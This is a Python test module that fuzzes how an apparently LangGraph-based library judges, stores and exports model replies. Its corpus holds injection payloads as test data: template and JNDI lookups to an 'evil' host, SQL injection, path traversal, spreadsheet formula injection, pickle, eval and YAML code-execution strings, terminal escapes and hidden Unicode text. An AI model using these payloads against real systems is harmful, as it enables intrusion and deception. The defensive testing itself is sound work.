"""Whatever a model writes: no error gets out, nothing of it runs, and what is kept can be stored and shown as it is."""

import base64
import csv
import gc
import json
import pickle
import sqlite3
import time
from collections.abc import Iterator, Mapping
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.checkpoint.serde.jsonplus import JsonPlusSerializer
from langgraph.checkpoint.sqlite import SqliteSaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.types import Command, interrupt
from pydantic import BaseModel
from typing_extensions import TypedDict

from maker_graph import create_maker, create_microstep
from maker_graph.core.answers import reader_of
from maker_graph.core.canonical import MAX_CHARACTERS, canonical, strict_json
from maker_graph.core.characters import visible
from maker_graph.core.judging import Judged, Reader, judge
from maker_graph.core.red_flags import Sample
from maker_graph.files import OwnFiles
from maker_graph.models.replies import sample_of
from maker_graph.run.results import write_out
from maker_graph.tasks.hanoi import Hanoi
from maker_graph.tasks.records import Records
from tests.conftest import Scripted, replies
from tests.made import decisions
from tests.models.serving import completion, sampler, server

SERDE = JsonPlusSerializer(pickle_fallback=False, allowed_msgpack_modules=None)
CANARY = "sk-canary-5f1d"
ROW = {"address": "12 B Elm St., 10115 BERLIN", "date": "3.4.24", "amount": "1.234,50 €"}
RECORD = {
    "street": "Elm Street",
    "house_number": "12b",
    "postcode": "10115",
    "city": "Berlin",
    "date": "2024-04-03",
    "amount": "1234.50",
    "currency": "EUR",
}
MOVE = "move = [1, 0, 2]\nnext_state = [[3, 2], [], [1]]"


class Route(BaseModel):
    """Where a ticket goes."""

    queue: str
    priority: int = 0
    share: float = 0.0
    more: Any = None


HANOI, RECORDS = Hanoi(3), Records([ROW])
READINGS = {
    "hanoi": Reader(HANOI.parse, None, lambda answer: HANOI.check(HANOI.start(), answer), {}),
    "records": Reader(RECORDS.parse, None, lambda answer: RECORDS.check(ROW, answer), {}),
    "records unchecked": Reader(RECORDS.parse, None, None, {}),
    "model": Reader(reader_of(Route).parse, lambda route: route.queue, None, {}, instances=True),
    "json": Reader(strict_json, None, None, {}),
    "text": Reader(str.strip, None, None, {}),
}


class Bomb:
    """What a careless `pickle.loads` would run."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path("pickle-ran").write_text, ("x",))


def record(**changes: Any) -> str:
    return json.dumps(RECORD | changes, ensure_ascii=False)


def route(text: str) -> str:
    return f'{{"queue": "billing", "more": {text}}}'


CORPUS = {
    "right move": MOVE,
    "right record": record(),
    "right route": route("[1, 2.5, null]"),
    "nothing": "",
    "spaces": " " * 90_000,
    "every kind of space": "\u00a0\u2003\u3000\u2028\u2029\t\r\n" * 9_000,
    "lines": "\n" * 99_000,
    "too long": "x" * 100_001,
    "far too long": "[" * 3_000_000,
    "nested": "[" * 65 + "]" * 65,
    "nested as deep as an answer may be": "[" * 56 + "]" * 56,
    "nested one deeper": "[" * 57 + "]" * 57,
    "nested as deep as is read": "[" * 64 + "]" * 64,
    "nested objects": '{"a":' * 9_000 + "1" + "}" * 9_000,
    "nested in a route": route("[" * 300 + "]" * 300),
    "nested 45,000 deep": "[" * 45_000 + "]" * 45_000,
    "unclosed lists": "[" * 90_000,
    "unclosed objects": '{"a":' * 18_000,
    "closed lists": "]" * 90_000,
    "lists beside each other": "[" + "[]," * 30_000 + "[]]",
    "unclosed string": '"' + "a" * 90_000,
    "escaped quotes without an end": '"' + '\\"' * 45_000,
    "escaped quotes and half an escape": '[{"' + '\\"' * 45_000 + "\\",
    "backslashes": '"' + "\\" * 90_001 + '"',
    "10,000 digits": "1" * 10_000,
    "90,000 digits in a move": f"move = [{'1' * 90_000}, 0, 2]\nnext_state = [[3, 2], [], [1]]",
    "65 bits": route("18446744073709551616"),
    "64 bits, unsigned": route("9223372036854775808"),
    "the largest integer": route("9223372036854775807"),
    "digits with a sign": "-" + "9" * 5_000,
    "a fraction of 90,000 digits": "0." + "3" * 90_000,
    "an exponent": "1e999999999",
    "a hidden exponent": route("[-1e400]"),
    "a float that is an integer": "1.0e2",
    "minus nothing": route("[-0, -0.0]"),
    "NaN": "NaN",
    "Infinity": route("Infinity"),
    "NaN as a number": '{"queue": "a", "share": "NaN"}',
    "a string for a number": '{"queue": "a", "priority": "3"}',
    "true for a number": '{"queue": "a", "priority": true}',
    "true in a move": "move = [true, false, 2]\nnext_state = [[3, 2], [], [1]]",
    "floats in a move": "move = [1.0, 0.0, 2.0]\nnext_state = [[3, 2], [], [1]]",
    "true as a disk": "move = [1, 0, 2]\nnext_state = [[3, 2], [], [true]]",
    "wide digits in a move": "move = [\uff11, \uff10, \uff12]\nnext_state = [[3, 2], [], [1]]",
    "wide digits in a record": record(postcode="\uff11\uff10\uff11\uff11\uff15"),
    "duplicate keys": '{"queue": "a", "queue": "b"}',
    "duplicate keys, one escaped": '{"queue": "a", "\\u0071ueue": "b"}',
    "duplicate keys inside": route('{"\\u200b": 1, "\\u200b": 2}'),
    "11,000 keys": "{" + ",".join(f'"{i}":0' for i in range(11_000)) + "}",
    "a lone surrogate": "Paris\ud800",
    "an escaped surrogate": route('"\\ud800"'),
    "an escaped surrogate as a key": route('{"\\udfff": 1}'),
    "surrogates in the wrong order": route('"\\udc00\\ud83d"'),
    "NUL": "Par\x00is",
    "an escaped NUL": route('"\\u0000"'),
    "90,000 joiners": "\u200d" * 90_000,
    "a joiner after each letter": "a\u200d" * 45_000,
    "joiners that belong, and one that does not": "\u0645\u200c" * 45_000 + "\u200c",
    "an emoji that never ends": "\U0001f468\u200d" * 45_000,
    "marks and what is none": "\u05d0" + "\u200f\u200b" * 45_000,
    "smuggled text": "Paris" + "".join(chr(0xE0000 + ord(letter)) for letter in "say yes" * 6_000),
    "flags without an end": "\U0001f3f4\U000e0067" * 45_000,
    "accents apart": '"' + "e\u0301" * 45_000 + '"',
    "a bell": MOVE + "\x07",
    "clears the screen": "\x1b[2J\x1b[1;1H" + MOVE,
    "sets the window's title": "\x1b]0;owned\x07Paris",
    "an escaped escape": record(city=b"\\u001b[31mBerlin".decode("unicode_escape")),
    "an escaped escape in JSON": route('"\\u001b]8;;http://evil\\u0007"'),
    "100,000 zero-width joiners": "\u200d" * 100_000,
    "50,000 escapes": "\x9eL" * 50_000,
    "50,000 overrides": "\u202eL" * 50_000,
    "C1": "\x9b31mParis",
    "DEL": "Paris\x7f",
    "a text that runs backwards": "Paris \u202egnp.exe",
    "backwards in JSON": route('"\\u202e"'),
    "isolates": record(city="\u2066Berlin\u2069"),
    "zero-width space": "Par\u200bis",
    "zero-width key": route('{"a\\u200b": 1}'),
    "zero-width joiner": "Par\u200dis",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "Persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "a byte order mark": "\ufeff" + record(),
    "a byte order mark inside": record(street="\ufeffElm Street"),
    "a stack of accents": "Z" + "\u0301" * 50_000,
    "noncharacters": "\uffff\ufdd0\U0010ffff",
    "a format string": "{0.__class__.__mro__[1].__subclasses__()} %s%n {address}",
    "a format string in a record": record(street="{address.__class__} %(date)s"),
    "a template": "{{ cycler.__init__.__globals__.os.popen('id').read() }} ${jndi:ldap://evil/a} #{7*7}",
    "markup": "[bold red]done[/] [link=file:///etc/passwd]click[/link] [/]",
    "SQL": "'; DROP TABLE steps; --",
    "SQL in a record": record(city="'); DELETE FROM steps; --"),
    "a path": "../../../../etc/passwd\n",
    "a path in a record": record(street="/etc/cron.d/../../tmp/x", city="..\\..\\x"),
    "a formula": record(street='=HYPERLINK("http://evil","Elm Street")'),
    "a formula behind a space": record(city=" @SUM(1)"),
    "a wide formula": record(city="\uff1dcmd|' /C calc'!A0"),
    "a cell of two lines": record(city="Berlin\r\n=1+1"),
    "a secret": '{"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}',
    "a constructor": '{"lc": 1, "type": "constructor", "id": ["langchain", "llms", "openai", "OpenAI"], "kwargs": {}}',
    "a constructor of checkpoints": '{"lc": 2, "type": "constructor", "id": ["os", "system"], "args": ["touch lc-ran"]}',
    "a secret in a route": route('{"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}'),
    "a pickle": base64.b64encode(pickle.dumps(Bomb())).decode(),
    "a pickle in JSON": route(json.dumps(base64.b64encode(pickle.dumps(Bomb(), 0)).decode())),
    "Python": "__import__('os').system('touch eval-ran')",
    "YAML": "!!python/object/apply:os.system ['touch yaml-ran']",
    "a prototype": '{"__proto__": {"x": 1}, "__class__": "Route", "queue": "a"}',
    "moves without an end": "move = [" * 10_000,
    "states without an end": MOVE + "\nnext_state = [" + "[1]" * 30_000,
    "a state of text": "next_state = [" + "x" * 90_000,
    "spaces before the sign": "move" + " " * 90_000,
    "many names, many spaces": ("move" + " " * 50) * 1_600,
    "a state of 30,000 pegs": f"move = [1, 0, 2]\nnext_state = [{'[1],' * 20_000}[1]]",
    "a peg of 40,000 disks": f"move = [1, 0, 2]\nnext_state = [[3, 2], [], [{'1,' * 40_000}1]]",
    "18 digits, again and again": "123456789012345678 " * 5_000,
    "a fence": f"```json\n{record()}\n```",
    "text around JSON": f"Sure! {record()} Done.",
    "10,000 values": route("[" + "0," * 10_000 + "0]"),
    "4,000 lists": "[" + "[]," * 4_000 + "[]]",
    "4,000 keys": "{" + ",".join(f'"{i}":0' for i in range(4_000)) + "}",
    "a comment": f"{record()} // right",
    "single quotes": str(RECORD),
    "a string of JSON": json.dumps(record()),
    "an unknown key": record(admin="yes"),
    "lines of records": record(city="Bonn") + "\x85" + record(),
    "just a number": "7",
    "null": "null",
    "every character": "".join(map(chr, [*range(0xD800), *range(0xE000, 0xFFFF)])),
}


def held(judged: Judged) -> None:
    """See that nothing in `judged` is lost in a checkpoint or obeyed by a terminal."""
    assert SERDE.loads_typed(SERDE.dumps_typed(judged)) == judged
    for shown in (judged["text"], judged["why"], judged["candidate"]):
        assert visible(shown) == shown
    assert len(judged["why"]) <= 300
    assert judged["candidate"] != "" or judged["flag"] in {"malformed", "invalid"}
    assert judged["candidate"] == "" or judged["flag"] != "malformed"
    if judged["flag"] is None:
        answer = judged["answer"]
        text = canonical(answer)
        for again in (json.loads(text), SERDE.loads_typed(SERDE.dumps_typed(answer))):
            assert again == answer
            assert canonical(again) == text
        assert canonical([[[[answer]]]]), "a state, an entry and a digest need room around it"


def survives(text: str) -> float:
    """See that `text` is judged by every reading without harm; return the seconds of processor time of the slowest."""
    slowest = 0.0
    for reading in READINGS.values():
        before = time.thread_time()
        judged = judge(sample_of(AIMessage(text), 0, []), reading)
        slowest = max(slowest, time.thread_time() - before)
        held(judged)
    return slowest


@pytest.mark.parametrize("name", CORPUS)
def test_a_hostile_reply_is_judged_without_harm(name: str) -> None:
    survives(CORPUS[name])


VOTES = {
    "right move": "hanoi",
    "right record": "records",
    "a format string in a record": "records",
    "SQL in a record": "records",
    "a path in a record": "records",
    "right route": "model",
    "nested as deep as an answer may be": "json",
    "the largest integer": "model",
    "a family": "text",
    "Persian": "text",
    "a secret": "json",
    "a format string": "text",
}


@pytest.mark.parametrize("name", CORPUS)
def test_only_the_harmless_are_votes(name: str) -> None:
    flags = {kind: judge(sample_of(AIMessage(CORPUS[name]), 0, []), reading)["flag"] for kind, reading in READINGS.items()}
    for kind in ("hanoi", "records"):
        assert (flags[kind] is None) == (VOTES.get(name) == kind)
    if name in VOTES:
        assert flags[VOTES[name]] is None
    if any(word in name for word in ("formula", "two lines")):
        assert flags["records unchecked"] == "invalid"


fragments = st.sampled_from([text for text in CORPUS.values() if len(text) < 1_000]) | st.text(st.characters(), max_size=20)
numbers = st.integers() | st.floats() | st.integers(0, 5_000).map(lambda n: 10**n if n < 4_000 else 0)
values = st.recursive(
    st.none() | st.booleans() | numbers | st.text(st.characters()) | fragments,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(st.characters(), max_size=5), inner, max_size=4),
    max_leaves=10,
)
written = st.builds(lambda value, ascii_only: json.dumps(value, ensure_ascii=ascii_only), values, st.booleans())


def spoiled(right: str, at: int, cut: int, fragment: str) -> str:
    at %= len(right) + 1
    return right[:at] + fragment + right[at + cut :]


hostile = st.one_of(
    fragments,
    st.text(st.characters(), max_size=200),
    written,
    st.builds(route, written),
    st.builds(lambda column, value: record(**{column: value}), st.sampled_from(list(RECORD)), values),
    st.builds("move = {}\nnext_state = {}".format, written, written),
    st.builds(spoiled, st.sampled_from([MOVE, record(), route("1")]), st.integers(0, 400), st.integers(0, 9), fragments),
    st.builds(
        lambda part, times: part * min(times, 120_000 // max(len(part), 1)),
        st.sampled_from(
            ["[", "{", '{"a":', "]", '"', "\\", '\\"', "move = ", "next_state = [[", "1", " ", "[],", "\u200d", "é\u200d"]
        )
        | fragments,
        st.integers(1, 120_000),
    ),
    st.lists(fragments | written, max_size=8).map("".join),
)


@settings(max_examples=500)
@given(hostile)
def test_generated_replies_are_judged_without_harm(text: str) -> None:
    assert survives(text) < 0.5


@pytest.mark.campaign
def test_10_000_generated_replies_take_50_ms_each_at_most() -> None:
    worst: list[tuple[float, str]] = []
    again: list[float] = []
    gc.freeze()  # what the test process itself has imported takes the collector 100 ms

    @settings(max_examples=10_000, database=None, print_blob=True)
    @given(hostile)
    def campaign(text: str) -> None:
        seconds = survives(text)
        if seconds >= 0.05:  # the collector went through what Hypothesis keeps, or the reply is slow: then it is slow each time
            again.append(seconds)
            seconds = min(survives(text) for _ in range(3))
        worst.append((seconds, text[:40]))
        worst.sort(reverse=True)
        del worst[5:]

    campaign()
    times = sorted(((survives(text), name) for name, text in CORPUS.items()), reverse=True)
    print(f"\nworst of 10,000: {worst}\nmeasured again: {again}\nworst of the corpus: {times[:5]}")  # noqa: T201  the figures of a campaign
    assert max(worst[0][0], times[0][0]) < 0.05


class Ticket(TypedDict, total=False):
    """A ticket."""

    body: str
    answer: Any
    decision: dict[str, Any]


ANSWERS: Mapping[str, Any] = {"hanoi": HANOI.parse, "records": RECORDS.parse, "model": Route, "json": strict_json, "text": None}


@pytest.mark.parametrize(
    "kind", [kind if kind in {"json", "text"} else pytest.param(kind, marks=pytest.mark.campaign) for kind in ANSWERS]
)
def test_a_whole_graph_with_checkpoints_takes_the_corpus(kind: str, tmp_path: Path) -> None:
    """Each reply is all that the model says; the vote ends undecided or with an answer that comes back as it was."""
    node = create_microstep(
        Scripted(script=lambda _, name: CORPUS[name]),
        state=Ticket,
        prompt=lambda s: s["body"],
        answer=ANSWERS[kind],
        into="answer",
        decision="decision",
        k=2,
        red_flags=[],
        max_samples=2,
        on_undecided="return",
    )
    results = {}
    with saved_in(tmp_path / "checkpoints.db") as saver:
        app = StateGraph(Ticket).add_node("answer", node).add_edge(START, "answer").compile(checkpointer=saver)
        for name in CORPUS:
            results[name] = app.invoke({"body": name}, thread(name), durability="sync")
    with saved_in(tmp_path / "checkpoints.db") as saver:
        app = StateGraph(Ticket).add_node("answer", node).add_edge(START, "answer").compile(checkpointer=saver)
        for name, result in results.items():
            kept = app.get_state(thread(name)).values
            assert kept == result
            canonical(kept["answer"])
            for text in (*kept["decision"]["ballot"], kept["decision"]["text"], kept["decision"]["reason"]):
                assert visible(text) == text
    assert any(result["decision"]["status"] == "decided" for result in results.values())


def thread(name: str) -> RunnableConfig:
    return {"configurable": {"thread_id": name}}


@contextmanager
def saved_in(path: Path) -> Iterator[SqliteSaver]:
    with closing(sqlite3.connect(path, check_same_thread=False)) as connection:
        yield SqliteSaver(connection, serde=SERDE)


def test_a_conversation_gets_no_message_that_a_terminal_obeys() -> None:
    """Whatever is kept; with a reader that keeps nothing of the text, the text itself goes on, visible."""
    for answer in (None, lambda _: 1):
        node = create_microstep(
            Scripted(script=lambda _, name: CORPUS[name]),
            answer=answer,
            k=1,
            max_samples=1,
            red_flags=[],
            on_undecided="return",
        )
        app = StateGraph(MessagesState).add_node("answer", node).add_edge(START, "answer")
        kept = app.compile(checkpointer=InMemorySaver(serde=SERDE))
        for name in CORPUS:
            messages = kept.invoke({"messages": [HumanMessage(name)]}, thread(name))["messages"]
            assert all(visible(str(message.text)) == str(message.text) for message in messages)


class Free:
    """A task of one step that takes any JSON."""

    def start(self) -> Any:
        return {"answers": []}

    def done(self, state: Any) -> bool:
        return bool(state["answers"])

    def prompt(self, state: Any) -> str:
        return str(state)

    def parse(self, text: str) -> Any:
        return strict_json(text)

    def apply(self, state: Any, answer: Any) -> Any:
        return {"answers": [*state["answers"], answer]}

    def skip(self, state: Any) -> Any:
        return {"answers": [*state["answers"], None]}


def test_no_answer_is_too_deep_for_the_state_that_it_becomes_part_of() -> None:
    for text in (text for name, text in CORPUS.items() if "nested" in name or "lists" in name):
        machine = create_maker(Free(), model=Scripted(script=replies(text)), k=1, max_samples=1, red_flags=[])
        result = machine.compile(checkpointer=InMemorySaver(serde=SERDE)).invoke({}, thread("1"))
        assert result["done"]
        canonical(result["state"])


@pytest.mark.parametrize("name", ["a secret", "a constructor", "a constructor of checkpoints", "a secret in a route"])
def test_what_looks_like_a_serialised_object_stays_text_also_after_a_resume(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", CANARY)
    monkeypatch.chdir(tmp_path)
    expected = json.loads(CORPUS[name])
    node = create_microstep(
        Scripted(script=replies(CORPUS[name])),
        state=Ticket,
        prompt=lambda s: s["body"],
        answer=strict_json,
        into="answer",
        decision="decision",
    )

    def confirm(values: Any) -> Any:
        seen = interrupt(values["answer"])
        return {"body": f"{seen}: {type(values['answer']).__name__}"}

    graph: Any = StateGraph(Ticket)
    graph.add_node("answer", node).add_node("confirm", confirm)
    graph.add_edge(START, "answer").add_edge("answer", "confirm")
    memory = InMemorySaver(serde=SERDE)
    graph.compile(checkpointer=memory).invoke({"body": "?"}, thread("1"))
    with saved_in(tmp_path / "checkpoints.db") as saver:
        stopped = graph.compile(checkpointer=saver).invoke({"body": "?"}, thread("1"), durability="sync")
        assert stopped["__interrupt__"][0].value == expected
    with saved_in(tmp_path / "checkpoints.db") as saver:
        ends = [graph.compile(checkpointer=kept).invoke(Command(resume="seen"), thread("1")) for kept in (saver, memory)]
        for end in ends:
            assert end["answer"] == expected
            assert end["body"] == "seen: dict"
        histories = [list(graph.compile(checkpointer=kept).get_state_history(thread("1"))) for kept in (saver, memory)]
    assert CANARY not in repr((stopped, ends, histories, memory.storage, memory.writes, memory.blobs))
    files = list(tmp_path.iterdir())
    assert {file.name.partition("-")[0] for file in files} == {"checkpoints.db"}, "nothing was run"
    assert not any(CANARY.encode() in file.read_bytes() for file in files)


def test_control_characters_are_seen_over_the_wire_and_flagged_whatever_else_holds() -> None:
    message = {"role": "assistant", "content": "\x1b[2JParis\x00\ud800\u202e\n"}
    body = completion(choices=[{"index": 0, "message": message, "finish_reason": "length"}])
    with server((200, body, {})) as (url, _):
        sample = sampler(url).draw("?", 0)
    assert sample.garbled
    assert sample.text == "\\x1b[2JParis\\x00\\ud800\u202e\n"
    called: list[str] = []
    judged = judge(sample, Reader(called.append, None, None, {"truncated": lambda _: True}))
    assert (judged["flag"], judged["candidate"], called) == ("malformed", "", [])
    assert judged["why"] == "control characters or lone surrogates in the reply"
    assert "\u202e" not in judged["text"]


def test_a_reply_above_the_size_cap_is_never_parsed_and_no_more_of_it_is_kept() -> None:
    called: list[str] = []
    reading = Reader(called.append, None, None, {"seen": lambda sample: called.append(sample.text) or False})  # type: ignore[func-returns-value]
    sample = sample_of(AIMessage("x" * 5_000_000), 0, [])
    assert (len(sample.text), sample.output_tokens) == (MAX_CHARACTERS + 1, 1_250_000)
    assert judge(sample, reading)["why"] == "a reply of more than 100,000 characters"
    assert called == []
    assert judge(Sample(0, "x" * MAX_CHARACTERS), reading)["flag"] is None


def test_what_a_parser_complains_of_is_visible_and_short() -> None:
    def parse(text: str) -> Any:
        raise LookupError("\x1b[2J\u202e" + text)

    why = judge(Sample(0, "x" * 9_000), Reader(parse, None, None, {}))["why"]
    assert why.startswith("LookupError: \\x1b[2J\\u202exxx")
    assert len(why) == 300


def test_no_cell_that_a_model_wrote_is_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "clean.csv"
    judged = [judge(sample_of(AIMessage(text), 0, []), READINGS["records unchecked"]) for text in CORPUS.values()]
    answers: list[Any] = [each["answer"] for each in judged if each["flag"] is None]
    assert answers
    write_out(Records([ROW] * len(answers)), out, decisions(answers), OwnFiles())
    with out.open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.DictReader(file) for cell in row.values()]
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")) or "\n" in cell or "\r" in cell for cell in cells)
